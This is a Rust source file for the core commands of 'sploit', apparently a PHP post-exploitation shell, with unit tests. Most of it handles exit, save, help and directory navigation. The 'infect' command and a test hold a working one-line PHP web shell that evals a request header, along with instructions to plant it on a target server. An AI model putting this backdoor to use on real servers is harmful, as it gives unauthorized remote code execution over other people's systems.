//! Commands present in every shell.

use std::path::PathBuf;

use colored::Colorize;
use sploit_types::error::{Result, SploitError};
use sploit_types::settings::SAVEFILE;

use crate::eval::EvalCmd;
use crate::help::{self, Help};
use crate::interpreter::{Command, CommandOutput, Context, Shell};
use crate::manual::MANUAL;
use crate::settings_commands::SetCmd;

/// Register the core commands into `shell`.
pub fn register_core_commands(shell: &mut Shell) {
    shell.register_core(Box::new(ExitCmd));
    shell.register_core(Box::new(ClearCmd));
    shell.register_core(Box::new(RtfmCmd));
    shell.register_core(Box::new(InfectCmd));
    shell.register_core(Box::new(SaveCmd));
    shell.register_core(Box::new(LpwdCmd));
    shell.register_core(Box::new(LcdCmd));
    shell.register_core(Box::new(DebugCmd));
    shell.register_core(Box::new(EvalCmd));
    shell.register_core(Box::new(SetCmd));
    shell.register_core(Box::new(HelpCmd));
}

// ---------------------------------------------------------------------------
// exit
// ---------------------------------------------------------------------------

struct ExitCmd;
impl Command for ExitCmd {
    fn name(&self) -> &str {
        "exit"
    }
    fn help(&self) -> Option<Help> {
        Some(Help::new(
            "Leave the current shell",
            "
SYNOPSIS:
    exit

DESCRIPTION:
    From a remote shell, go back to the main shell.
    From the main shell, leave sploit.",
        ))
    }
    fn execute(
        &self,
        _argv: &[&str],
        _shell: &Shell,
        _ctx: &mut Context<'_>,
    ) -> Result<CommandOutput> {
        Ok(CommandOutput::Exit)
    }
}

// ---------------------------------------------------------------------------
// clear
// ---------------------------------------------------------------------------

struct ClearCmd;
impl Command for ClearCmd {
    fn name(&self) -> &str {
        "clear"
    }
    fn help(&self) -> Option<Help> {
        Some(Help::new(
            "Clear the terminal screen",
            "
SYNOPSIS:
    clear

DESCRIPTION:
    Wipe the visible terminal contents.",
        ))
    }
    fn execute(
        &self,
        _argv: &[&str],
        _shell: &Shell,
        _ctx: &mut Context<'_>,
    ) -> Result<CommandOutput> {
        Ok(CommandOutput::Clear)
    }
}

// ---------------------------------------------------------------------------
// rtfm
// ---------------------------------------------------------------------------

struct RtfmCmd;
impl Command for RtfmCmd {
    fn name(&self) -> &str {
        "rtfm"
    }
    fn help(&self) -> Option<Help> {
        Some(Help::new("Read the fine manual", "\nSYNOPSIS:\n    rtfm"))
    }
    fn execute(
        &self,
        _argv: &[&str],
        _shell: &Shell,
        _ctx: &mut Context<'_>,
    ) -> Result<CommandOutput> {
        Ok(CommandOutput::Text(MANUAL.to_string()))
    }
}

// ---------------------------------------------------------------------------
// infect
// ---------------------------------------------------------------------------

struct InfectCmd;
impl Command for InfectCmd {
    fn name(&self) -> &str {
        "infect"
    }
    fn help(&self) -> Option<Help> {
        Some(Help::new(
            "Show the backdoor payload to plant on the target",
            "
SYNOPSIS:
    infect

DESCRIPTION:
    Print the PHP payload built from the BACKDOOR and PASSKEY
    settings. Insert it into a page of the target web server,
    then point TARGET at that page and run 'exploit'.",
        ))
    }
    fn execute(
        &self,
        _argv: &[&str],
        _shell: &Shell,
        ctx: &mut Context<'_>,
    ) -> Result<CommandOutput> {
        let payload = &ctx.session.link.backdoor;
        let rule = "=".repeat(payload.chars().count());
        Ok(CommandOutput::Text(format!(
            "[*] Insert the following payload into a page of the target server,\n\
             [*] then set TARGET to that page's URL.\n\n{rule}\n{}\n{rule}",
            payload.blue()
        )))
    }
}

// ---------------------------------------------------------------------------
// save
// ---------------------------------------------------------------------------

struct SaveCmd;
impl Command for SaveCmd {
    fn name(&self) -> &str {
        "save"
    }
    fn help(&self) -> Option<Help> {
        Some(Help::new(
            "Save the current session to a file",
            "
SYNOPSIS:
    save [FILE]

DESCRIPTION:
    Write the session (settings, link and environment) as JSON.

    Without FILE the session goes to $SAVEPATH/sploit.session.
    A directory, or a path ending in '/', receives sploit.session.
    A bare file name is placed under $SAVEPATH.
    Any other path is used as given.

    The written path is recorded in SAVEFILE.",
        ))
    }
    fn execute(
        &self,
        argv: &[&str],
        _shell: &Shell,
        ctx: &mut Context<'_>,
    ) -> Result<CommandOutput> {
        let hint = argv.get(1).copied().unwrap_or("");
        let path = ctx.services.persistence.save(ctx.session, hint)?;
        ctx.session
            .settings
            .insert(SAVEFILE, &path.to_string_lossy());
        Ok(CommandOutput::Text(format!("[*] Session saved into {}", path.display())))
    }
}

// ---------------------------------------------------------------------------
// lpwd / lcd
// ---------------------------------------------------------------------------

struct LpwdCmd;
impl Command for LpwdCmd {
    fn name(&self) -> &str {
        "lpwd"
    }
    fn help(&self) -> Option<Help> {
        Some(Help::new("Print the local working directory", "\nSYNOPSIS:\n    lpwd"))
    }
    fn execute(
        &self,
        _argv: &[&str],
        _shell: &Shell,
        _ctx: &mut Context<'_>,
    ) -> Result<CommandOutput> {
        let cwd = std::env::current_dir()?;
        Ok(CommandOutput::Text(cwd.display().to_string()))
    }
}

/// Expand a leading `~` to the home directory.
fn expand_tilde(path: &str) -> PathBuf {
    let home = || dirs::home_dir().unwrap_or_default();
    if path == "~" {
        home()
    } else if let Some(rest) = path.strip_prefix("~/") {
        home().join(rest)
    } else {
        PathBuf::from(path)
    }
}

struct LcdCmd;
impl Command for LcdCmd {
    fn name(&self) -> &str {
        "lcd"
    }
    fn help(&self) -> Option<Help> {
        Some(Help::new(
            "Change the local working directory",
            "
SYNOPSIS:
    lcd <DIRECTORY>

DESCRIPTION:
    Move sploit's own working directory. A leading '~' stands
    for the home directory.",
        ))
    }
    fn execute(
        &self,
        argv: &[&str],
        shell: &Shell,
        _ctx: &mut Context<'_>,
    ) -> Result<CommandOutput> {
        if argv.len() != 2 {
            return Ok(help::usage(shell, "lcd"));
        }
        let dir = expand_tilde(argv[1]);
        std::env::set_current_dir(&dir)
            .map_err(|e| SploitError::Command(format!("lcd: {}: {e}", dir.display())))?;
        Ok(CommandOutput::None)
    }
}

// ---------------------------------------------------------------------------
// debug
// ---------------------------------------------------------------------------

struct DebugCmd;
impl Command for DebugCmd {
    fn name(&self) -> &str {
        "debug"
    }
    fn help(&self) -> Option<Help> {
        Some(Help::new(
            "Dump the session state",
            "
SYNOPSIS:
    debug

DESCRIPTION:
    Print the whole session as JSON: settings, the current link,
    the confirmed link hash, environment and locked names.",
        ))
    }
    fn execute(
        &self,
        _argv: &[&str],
        _shell: &Shell,
        ctx: &mut Context<'_>,
    ) -> Result<CommandOutput> {
        Ok(CommandOutput::Text(serde_json::to_string_pretty(&*ctx.session)?))
    }
}

// ---------------------------------------------------------------------------
// help
// ---------------------------------------------------------------------------

struct HelpCmd;
impl Command for HelpCmd {
    fn name(&self) -> &str {
        "help"
    }
    fn help(&self) -> Option<Help> {
        Some(Help::new(
            "Show commands help",
            "
SYNOPSIS:
    help [COMMAND]

DESCRIPTION:
    Without argument, list every available command with its
    summary. With COMMAND, show that command's help page.",
        ))
    }
    fn execute(
        &self,
        argv: &[&str],
        shell: &Shell,
        _ctx: &mut Context<'_>,
    ) -> Result<CommandOutput> {
        let page = match argv.len() {
            0 | 1 => help::listing(shell),
            2 => help::command_page(shell, argv[1]),
            _ => help::command_page(shell, "help"),
        };
        Ok(CommandOutput::Text(page))
    }
}

#[cfg(test)]
mod tests {
    use sploit_types::link::StdLinkBuilder;
    use sploit_types::persist::SessionFile;
    use sploit_types::settings::{SAVEPATH, SettingRules};

    use super::*;
    use crate::interpreter::{Services, ShellKind};
    use crate::test_support::{Harness, text};

    #[test]
    fn exit_and_clear_signals() {
        let shell = Shell::new(ShellKind::Main, None);
        let mut h = Harness::new();
        assert_eq!(h.run(&shell, "exit").unwrap(), CommandOutput::Exit);
        assert_eq!(h.run(&shell, "clear").unwrap(), CommandOutput::Clear);
    }

    #[test]
    fn infect_frames_payload() {
        let shell = Shell::new(ShellKind::Main, None);
        let mut h = Harness::new();
        let out = text(h.run(&shell, "infect"));
        let payload = "<?php @eval($_SERVER['HTTP_PHPSPL01T']);?>";
        let rule = "=".repeat(payload.len());
        assert!(out.ends_with(&format!("{rule}\n{payload}\n{rule}")));
    }

    #[test]
    fn save_records_savefile() {
        let shell = Shell::new(ShellKind::Main, None);
        let mut h = Harness::new();
        let out = text(h.run(&shell, "save audit.sess"));
        assert_eq!(out, "[*] Session saved into /saved/audit.sess");
        assert_eq!(h.session.settings.value(SAVEFILE), "/saved/audit.sess");
        assert_eq!(*h.store.saved.borrow(), vec!["audit.sess"]);
    }

    #[test]
    fn save_to_disk() {
        let dir = tempfile::tempdir().unwrap();
        let shell = Shell::new(ShellKind::Main, None);
        let mut h = Harness::new();
        h.session.settings.insert(SAVEPATH, &dir.path().to_string_lossy());

        let services = Services {
            validator: &SettingRules,
            links: &StdLinkBuilder,
            checker: &h.checker,
            persistence: &SessionFile,
        };
        let mut ctx = Context {
            session: &mut h.session,
            services,
        };
        text(shell.execute("save", &mut ctx));
        let expected = dir.path().join("sploit.session");
        assert!(expected.is_file());
        assert_eq!(h.session.settings.value(SAVEFILE), expected.to_string_lossy());
    }

    #[test]
    fn lcd_usage_and_errors() {
        let shell = Shell::new(ShellKind::Main, None);
        let mut h = Harness::new();
        assert_eq!(text(h.run(&shell, "lcd")), help::command_page(&shell, "lcd"));
        match h.run(&shell, "lcd /definitely/not/here") {
            Err(SploitError::Command(msg)) => assert!(msg.contains("/definitely/not/here")),
            other => panic!("expected command error, got {other:?}"),
        }
    }

    #[test]
    fn tilde_expansion() {
        let home = dirs::home_dir().unwrap_or_default();
        assert_eq!(expand_tilde("~"), home);
        assert_eq!(expand_tilde("~/x"), home.join("x"));
        assert_eq!(expand_tilde("/tmp/~"), PathBuf::from("/tmp/~"));
    }

    #[test]
    fn lpwd_prints_cwd() {
        let shell = Shell::new(ShellKind::Main, None);
        let mut h = Harness::new();
        let cwd = std::env::current_dir().unwrap();
        assert_eq!(text(h.run(&shell, "lpwd")), cwd.display().to_string());
    }

    #[test]
    fn debug_dumps_session_json() {
        let shell = Shell::new(ShellKind::Main, None);
        let mut h = Harness::new();
        let out = text(h.run(&shell, "debug"));
        let value: serde_json::Value = serde_json::from_str(&out).unwrap();
        assert_eq!(value["settings"]["PASSKEY"], "phpSpl01t");
        assert!(value["link"]["hash"].is_string());
    }

    #[test]
    fn help_lists_sections() {
        let shell = Shell::new(ShellKind::Main, None);
        let mut h = Harness::new();
        let out = text(h.run(&shell, "help"));
        assert!(out.contains("Core Commands"));
        assert!(out.contains("Shell Commands"));
        assert!(out.contains("exploit"));
    }
}
